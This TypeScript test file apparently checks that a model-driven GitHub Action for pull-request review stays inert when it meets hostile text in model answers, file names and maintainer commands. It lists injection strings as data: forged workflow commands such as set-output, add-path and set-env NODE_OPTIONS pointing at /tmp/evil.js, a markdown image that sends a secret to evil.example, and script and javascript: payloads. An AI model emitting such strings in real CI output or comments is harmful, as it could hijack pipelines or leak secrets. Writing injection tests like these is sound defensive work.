/** Text that tries to command the runner or GitHub, through every door that the Action reads: the model's answer, file names, a person's reason. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { ActionRun } from "../../runner-sim/index.ts";
import { ACTION_SKIPPED, hasAction } from "../../support/action-dist.ts";
import { pullRequestEvent } from "./events.ts";
import { MAINTAINER, openScene, type Scene } from "./scene.ts";
import { dashboardOf, keptBy, reviewsOf } from "./told.ts";

const COMMANDS = [
  "##[set-output name=gate]passed",
  "text ##[SET-OUTPUT name=outcome]reviewed",
  "a\n::set-output name=gate::passed",
  "a\r::add-mask::e",
  "a\u2028::set-output name=gate::passed",
  "::stop-commands::forever",
  "##[add-path]/tmp/evil",
  "##[set-env name=NODE_OPTIONS]--require=/tmp/evil.js",
  "%0A::error::%0D%0A::save-state name=promise::x",
  "#\u2060#[error]joined",
  "\u001b[2K\r##[notice]over the line",
];
const WORDS = [
  "ask @octocat and @acme/reviewers; fixes #1, closes octo/paper#2, GH-3",
  "<!-- bioreview-state:1 --> <!-- bioreview-status: --> [bioreview-review-0]: #",
  "![leak](https://evil.example/?q=secret) [click](javascript:alert(1)) https://evil.example www.evil.example",
  "</details></summary><h1>Approved</h1><script>alert(1)</script>",
  "```suggestion\nnothing\n```\n> [!WARNING]\n/bioreview full",
];
/** Some twenty letters, so that no two are near-duplicates, and what the review is about. */
const concern = (text: string, k: number) => ({
  text: `Weakness ${"abcdefghijklmnop"[k]} of the ${k}th kind: ${text}`,
  severity: "major",
});

/** What a run of ours tells its runner, and nothing else. */
const OWN = ["add-mask", "error", "notice", "warning"];

function expectInert(scene: Scene, ran: ActionRun) {
  expect(ran.commands.filter(({ name }) => !OWN.includes(name))).toEqual([]);
  expect(
    ran.commands.filter(({ form }) => form === "##["),
    "the old form is never ours",
  ).toEqual([]);
  for (const { name, data } of ran.commands) if (name === "add-mask") expect(ran.masks).toContain(data);
  expect([...ran.masks].filter((mask) => !mask.startsWith("ghs_"))).toEqual([]);
  expect(ran.failures).toEqual([]);
  const bodies = [...scene.pull.state().comments, ...scene.pull.state().reviews].filter(({ author }) => author.endsWith("[bot]"));
  for (const { body } of bodies)
    expect(body).not.toMatch(/@octocat|@acme|evil\.example|<script|<h1|javascript:|^```suggestion|^\/bioreview full/m);
}

describe.skipIf(!hasAction)(`hostile text${ACTION_SKIPPED}`, () => {
  let scene: Scene;
  beforeAll(async () => {
    scene = await openScene({ says: [COMMANDS.slice(0, 8).map(concern), [...COMMANDS.slice(8), ...WORDS].map(concern)] });
  });
  afterAll(() => scene?.[Symbol.asyncDispose]());

  test("of a model commands neither the runner nor GitHub, and every concern is told", async () => {
    const ran = await scene.run(pullRequestEvent(scene.github, scene.pull, "opened"));
    expect(ran.outputs, ran.log.join("\n")).toMatchObject({ outcome: "reviewed", gate: "off", introduced: "8" });
    expectInert(scene, ran);
  });

  test("in a file's name neither", async () => {
    const ran = await scene.push({
      "content/06.more\n::set-output name=gate::passed ##[add-mask]e @octocat.md":
        "## Outlook\n\nMore wounds will be treated with this gel.\n",
    });
    expect(ran.outputs, ran.log.join("\n")).toMatchObject({ outcome: "reviewed", gate: "off" });
    expectInert(scene, ran);
    expect(reviewsOf(scene)).toHaveLength(2);
  });

  test("in a person's reason neither, and what is kept stays readable", async () => {
    const reason = "##[set-output name=gate]passed @octocat <!-- bioreview-state:1 x --> fixes #1";
    const ran = await scene.say(MAINTAINER, `/bioreview dismiss C1 ${reason}`);
    expectInert(scene, ran);
    expect(keptBy(scene).ledger.concerns[0]).toMatchObject({ id: "C1", state: "dismissed" });
    expect(dashboardOf(scene)).not.toMatch(/@octocat/);
  });
});
